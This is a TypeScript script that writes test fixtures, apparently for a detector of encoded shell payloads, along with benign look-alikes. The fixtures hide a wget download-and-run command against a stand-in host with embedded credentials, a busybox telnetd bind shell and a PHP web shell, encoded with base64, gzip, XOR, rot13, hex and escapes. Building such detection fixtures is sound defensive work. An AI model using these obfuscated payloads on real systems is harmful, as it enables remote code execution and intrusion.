// node examples/describe/encoded/make.ts: writes scripts that decode. What they would do is nothing, and nothing runs them.
import { gzipSync } from 'node:zlib';
import { writeTexts } from '../../craft.ts';

const inner = 'wget -q http://user:secret@relay.made-up.cn:8080/x -O /tmp/x\nchmod 755 /tmp/x\n/tmp/x --token s3cret &\n';
const b64 = (data: string | Uint8Array) => Buffer.from(data).toString('base64');
const hex = (data: string) => Buffer.from(data).toString('hex');
const xored = Buffer.from(inner).map((byte) => byte ^ 0x5a);
const rot13 = (text: string) => text.replaceAll(/[a-z]/gi, (c) => String.fromCodePoint((c.codePointAt(0) ?? 0) + (c.toLowerCase() < 'n' ? 13 : -13)));
const escaped = Buffer.from('/bin/busybox telnetd -l /bin/sh\n').reduce((text, byte) => `${text}\\x${byte.toString(16).padStart(2, '0')}`, '');
// the time in the header is the only thing of a gzip that changes
const gzip = gzipSync(inner);
gzip.fill(0, 4, 8);
gzip[9] = 3;

const script = (...lines: readonly string[]) => `#!/bin/sh\n${lines.join('\n')}\n`;

writeTexts(import.meta.dirname, 'make.ts', {
  'piped-into-a-shell': { note: 'Base64 that goes into a shell: what stands in it is told without the password and the token.', path: 'etc/init.d/S1', text: script(`echo ${b64(inner)} | base64 -d | sh`) },
  'kept-in-a-variable': { note: 'The literal stands on one line, another decodes and runs it.', path: 'usr/bin/x.sh', text: script(`P="${b64(inner)}"`, 'true', 'eval "$(echo $P | base64 -d)"') },
  'layers': { note: 'gzip under base64 under base64.', path: 'usr/bin/x.sh', text: script(`echo ${b64(b64(gzip))} | base64 -d | base64 -d | gzip -d | sh`) },
  'one-byte-over-all': { note: 'Text under exclusive or with one byte, in a script of Python.', path: 'usr/bin/x.py', text: `import base64, os\nd = base64.b64decode("${b64(xored)}")\nos.system(bytes(c ^ 0x5a for c in d))\n` },
  'letters-moved-and-turned': { note: 'Letters moved by thirteen, and a text turned round before it is decoded.', path: 'usr/bin/x.sh', text: script(`echo ${b64(rot13(inner))} | base64 -d | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh`, `echo ${[...b64(inner)].toReversed().join('')} | rev | base64 -d | sh`) },
  'hexadecimal-and-escapes': { note: 'Hexadecimal through xxd, and escapes through printf.', path: 'usr/bin/x.sh', text: script(`echo ${hex(inner)} | xxd -r -p | sh`, `printf '${escaped}' | sh`) },
  'over-several-lines': { note: 'A program in lines of base64 in a here-document: kept, not run by that line.', path: 'usr/bin/x.sh', text: script('base64 -d > /tmp/x <<END', (b64(Buffer.concat([Buffer.from('\x7fELF\x01\x01\x01', 'latin1'), Buffer.alloc(200)])).match(/.{1,76}/g) ?? []).join('\n'), 'END') },
  'page-of-php': { note: 'A page that evaluates what it decodes.', path: 'www/x.php', text: `<?php eval(base64_decode("${b64('system($_REQUEST["c"]); // made up')}")); ?>\n` },
  'look-alikes': {
    note: 'What fooled us: a picture in a page, a digest, a certificate, an alphabet, a text that nobody runs, a script that encodes.',
    path: 'usr/bin/y.sh',
    text: script(
      `IMG="data:image/png;base64,${b64(inner)}"`,
      `SHA256="${hex('0123456789abcdef0123456789abcdef')}"`,
      'A=ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/',
      `KEY=${b64(Buffer.from('308201223081f0a0030201020214', 'hex'))}${'A'.repeat(20)}`,
      `TEXT=${b64('nothing but a few friendly words here')}`,
      'echo $TEXT | base64 -d > /tmp/motd',
      'tar c /etc | base64 > /tmp/backup',
    ),
  },
  'cut-short': { note: 'gzip that breaks off: what is left is no text, nothing is given.', path: 'usr/bin/x.sh', text: script(`echo ${b64(gzip.subarray(0, 40))} | base64 -d | gzip -d | sh`) },
});
